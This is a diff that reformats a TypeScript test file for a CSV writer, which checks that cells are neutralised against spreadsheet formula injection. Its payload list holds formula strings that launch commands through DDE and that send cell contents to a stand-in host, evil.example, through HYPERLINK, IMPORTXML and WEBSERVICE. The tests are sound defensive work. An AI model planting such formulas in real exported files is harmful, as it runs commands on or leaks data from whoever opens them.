@@ -6,17 +6,17 @@ import { parseCsv } from '../../support/csv.ts'
 /** What people have put into fields to run something in the spreadsheet of whoever opens the file. */
 const PAYLOADS = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example?x="&A1,"Click")',
   '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
   '=WEBSERVICE("http://evil.example")',
   '=DDE("cmd";"/C calc";"x")',
   "=1+1+cmd|' /C calc'!A0",
   '+1+1',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-1+1',
   "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '@A1',
   '\tcalc',
   '\rcalc',
@@ -63,7 +63,16 @@ test('nothing behind a separator of another country runs either', () => {
 })
 
 test('what people write stays as it is', () => {
-  for (const text of ["'t Hooft", 'a-b', '780-555-0100', 'x=1', 'Ada “Al” Byron', '', '½ bath', '(2)']) {
+  for (const text of [
+    "'t Hooft",
+    'a-b',
+    '780-555-0100',
+    'x=1',
+    'Ada “Al” Byron',
+    '',
+    '½ bath',
+    '(2)',
+  ]) {
     expect(parseCsv(csvRow([text]))).toEqual([[text]])
   }
 })
@@ -80,7 +89,9 @@ test('a comma, a quote, a semicolon or a line break does not leave its cell', ()
 
 const text = fc.oneof(
   fc.string({ unit: 'grapheme' }),
-  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\r', '\n', '\t', ' ', 'a') }),
+  fc.string({
+    unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\r', '\n', '\t', ' ', 'a'),
+  }),
   fc.constantFrom(...PAYLOADS),
 )
 
